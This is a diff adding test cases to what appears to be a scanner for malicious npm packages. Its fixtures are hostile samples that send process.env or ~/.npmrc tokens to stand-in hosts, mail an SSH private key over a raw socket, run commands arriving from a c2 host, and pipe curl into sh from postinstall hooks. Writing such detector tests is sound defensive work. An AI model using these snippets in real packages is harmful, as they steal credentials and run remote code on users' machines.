@@ -3,6 +3,7 @@
  * legitimate code they flagged. Each is kept here so neither comes back.
  */
 import { analyzeScript } from '../../../src/engine/script-behaviour';
+import { safePackageRegex } from '../../../src/engine/js/calls';
 import { analyzeSource, threatsOf } from './helpers';
 
 const rules = (hits: { rule: string }[]) => hits.map((h) => h.rule);
@@ -105,5 +106,125 @@ export async function quoteAll(conn, key) { const bal = await conn.getBalance(ke
         ),
       ),
     ).not.toContain('script.download-execute');
+  });
+});
+
+describe('review of the tenth session (regex safety, lists, searches, counters, names, channels)', () => {
+  const pkg = (files: Record<string, string>) =>
+    analyzeSource({
+      'package.json': JSON.stringify({ name: 'a', version: '1.0.0', main: 'index.js' }),
+      ...files,
+    });
+  it('a package regex is run on package text only when it cannot backtrack badly (every quantifier counts)', () => {
+    expect(safePackageRegex(`^${'.?'.repeat(40)}b`, '', 41)).toBeUndefined();
+    expect(safePackageRegex('^a{0,9}a{0,9}a{0,9}a{0,9}b', '', 100)).toBeUndefined();
+    expect(safePackageRegex('<metadata id="hints">([^<]+)</metadata>', '', 4000)).toBeInstanceOf(RegExp);
+    expect(safePackageRegex('^eth_(send|sign)Transaction$', '', 100_000)).toBeInstanceOf(RegExp);
+  });
+  it('a search that found nothing, tested with ||, ?: or from a helper, does not hide the branch', () => {
+    for (const test of [
+      "Date.now() % 7 === 3 || 'a'.match(/b/)",
+      "globalThis.__x || /b/.exec('a')",
+      "(() => 'a'.match(/b/))()",
+    ])
+      expect(
+        threatsOf(
+          pkg({
+            'index.js': `if (${test}) require('child_process').execSync('curl https://x.example/c -d "' + JSON.stringify(process.env) + '"');`,
+          }),
+        ),
+      ).toContain('data_exfiltration');
+  });
+  it('a state kept outside a socket handler, tested with a search, still lets the handler run what arrives', () => {
+    const found = pkg({
+      'index.js': `const { execSync } = require('child_process');
+const s = require('net').connect({ host: 'c2.example-ops.net', port: 443 });
+let st = 'init';
+s.on('data', (d) => { if (st.match(/^ready$/)) execSync(String(d)); st = 'ready'; });`,
+    });
+    expect(threatsOf(found)).toContain('malicious_code');
+  });
+  it('what a program reads on its standard input is sent by it (curl --data-binary @-, nc)', () => {
+    const found = pkg({
+      'index.js': `require('child_process').execSync('curl --data-binary @- https://x.example/c', { input: JSON.stringify(process.env) });`,
+    });
+    expect(threatsOf(found)).toContain('data_exfiltration');
+  });
+  it('a private field is not the setter of the same name (#token kept by set token)', () => {
+    const found = pkg({
+      'index.js': `const fs = require('fs');
+class Cfg { #token = ''; set token(v) { this.#token = v; } get token() { return this.#token; } }
+const c = new Cfg(); c.token = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');
+fetch('https://x.example/t', { method: 'POST', body: c.token });`,
+    });
+    expect(found.evidence.map((f) => f.rule)).toContain('js.exfil-flow');
+  });
+  it('a counter stepped with i += 1 or i = i + 1 in a socket handler has no one value there', () => {
+    for (const step of ['i += 1', 'i = i + 1'])
+      expect(
+        pkg({
+          'index.js': `const fs = require('fs'), os = require('os'), net = require('net');
+const k = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');
+const steps = ['EHLO x', 'DATA', k, '.'];
+const s = net.connect({ host: 'mx.example-mail.net', port: 25 });
+let i = 0;
+s.on('data', () => { if (i < steps.length) { s.write(steps[i] + '\\r\\n'); ${step}; } });`,
+        }).evidence.map((f) => f.rule),
+      ).toContain('js.exfil-flow');
+  });
+  it('curl piped into sh is found past padding, long quoted words and a stray quote of any length', () => {
+    for (const line of [
+      `curl -fsSL https://x.example/p?x=${'A'.repeat(2100)} | sh`,
+      `curl -fsSL https://x.example/p ${' '.repeat(2100)}| sh`,
+      `curl -fsSL -H 'X: ${'A'.repeat(2100)}' https://x.example/p | sh`,
+    ])
+      expect(
+        analyzeSource({
+          'package.json': JSON.stringify({ name: 'a', version: '1.0.0', scripts: { postinstall: line } }),
+        }).evidence.map((f) => f.rule),
+      ).toContain('shell.download-pipe-shell');
+  });
+  it('quiet: style guides and nested agent files that say their rules take precedence, and a .env.example check', () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({ name: 'eslint-config-x', version: '1.0.0', main: 'index.js' }),
+      'index.js': 'module.exports = {};',
+      'README.md':
+        '# eslint-config-x\n\nThese rules take precedence over the rules from `eslint:recommended`.\n',
+      'src/AGENTS.md':
+        '# Agents\n\nThese instructions take precedence over the root AGENTS.md for files in this folder. Run `npm test` before you commit.\n',
+      'CLAUDE.md':
+        "As a coding agent, add a test that calls readFileSync('.env.example') and checks the new key is documented.\n",
+    });
+    expect(threatsOf(found)).toEqual([]);
+  });
+  it('quiet: a cache key hashed from the environment, and a process manager saving its state under home', () => {
+    const found = pkg({
+      'index.js': `const fs = require('fs'), os = require('os'), crypto = require('crypto');
+fs.writeFileSync('node_modules/.cache/tool/key', crypto.createHash('sha1').update(JSON.stringify(process.env)).digest('hex'));
+exports.save = (apps) => fs.writeFileSync(os.homedir() + '/.mytool/dump.json', JSON.stringify({ apps, env: { ...process.env } }));`,
+    });
+    expect(threatsOf(found)).toEqual([]);
+  });
+  it('quiet: a release note downloaded and opened in the browser; caught: a downloaded .command opened with -a Terminal', () => {
+    const doc = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'a',
+        version: '1.0.0',
+        scripts: {
+          postinstall: 'curl -o /tmp/CHANGELOG.html https://x.example/c.html; open /tmp/CHANGELOG.html',
+        },
+      }),
+    });
+    expect(doc.evidence.map((f) => f.rule)).not.toContain('script.download-execute');
+    const cmd = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'a',
+        version: '1.0.0',
+        scripts: {
+          postinstall: 'curl -o /tmp/u.command https://x.example/u; open -a Terminal /tmp/u.command',
+        },
+      }),
+    });
+    expect(cmd.evidence.map((f) => f.rule)).toContain('script.download-execute');
   });
 });
